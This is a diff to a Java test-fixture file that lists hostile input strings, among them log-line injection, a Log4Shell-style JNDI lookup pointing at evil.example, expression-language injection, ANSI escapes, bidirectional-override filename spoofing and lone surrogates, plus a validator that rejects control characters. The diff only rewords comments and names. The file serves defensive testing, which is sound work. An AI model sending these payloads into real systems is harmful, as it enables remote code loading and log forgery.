@@ -16,7 +16,7 @@ package io.github.camelstackai.route.hostile;
 import java.util.List;
 import java.util.regex.Pattern;
 
-/** Text that is made to be more than text, a line each. */
+/** A text that is crafted to be interpreted as something else. */
 record Attack(String name, String text) {
     static final List<Attack> ALL = List.of(
             // paths
@@ -44,27 +44,27 @@ record Attack(String name, String text) {
             new Attack("a log line", "f\n2026-01-01 INFO all is well"),
             new Attack("a log line, by the line ends of Unicode", "f\u0085INFO\u2028INFO\u2029INFO"),
             new Attack("a log line, by VT and FF", "f\u000bINFO\fINFO"),
-            new Attack("a lookup", "${jndi:ldap://evil.example/a} ${env:PATH} {} %n %s"),
+            new Attack("a lookup of a logger", "${jndi:ldap://evil.example/a} ${env:PATH} {} %n %s"),
             new Attack("an expression", "${body} #{2+2} {{env:PATH}}"),
             new Attack("ANSI escapes", "\u001b[2J\u001b[31mred\u001b]0;title\u0007"),
             new Attack("ANSI escapes of one byte", "\u009b31mred"),
             new Attack("backspaces", "bad\b\b\bgood"),
             new Attack("NUL", "f\0g"),
             new Attack("reordered text", "\u202Egpj.exe\u202C \u2066a\u2069 \u200Fb"),
-            new Attack("half a character", "f\uD83D"),
-            new Attack("the other half", "\uDE00f"),
-            new Attack("no character", "f\uFFFE\uFFFF"),
+            new Attack("a high surrogate alone", "f\uD83D"),
+            new Attack("a low surrogate alone", "\uDE00f"),
+            new Attack("noncharacters", "f\uFFFE\uFFFF"),
             // size
             new Attack("a blank", " \t\r\n"),
             new Attack("length", "x".repeat(45_000)));
 
-    /** What may be in no message: it would end a line, move a cursor, or show other text than there is. */
+    /** Characters that no message may contain: they end a line, move the cursor, or change the text that is shown. */
     private static final Pattern UNSHOWABLE =
             Pattern.compile("[\\p{Cc}\\p{Cs}\\p{Zl}\\p{Zp}\\u061C\\u200E\\u200F\\u202A-\\u202E\\u2066-\\u2069]");
 
     private static final int LONGEST_MESSAGE = 2000;
 
-    /** Whether {@code message} is one line of a reasonable length that shows what it says. */
+    /** Whether {@code message} is one line of a reasonable length without control characters. */
     static boolean isShowable(String message) {
         return message == null
                 || (message.length() < LONGEST_MESSAGE
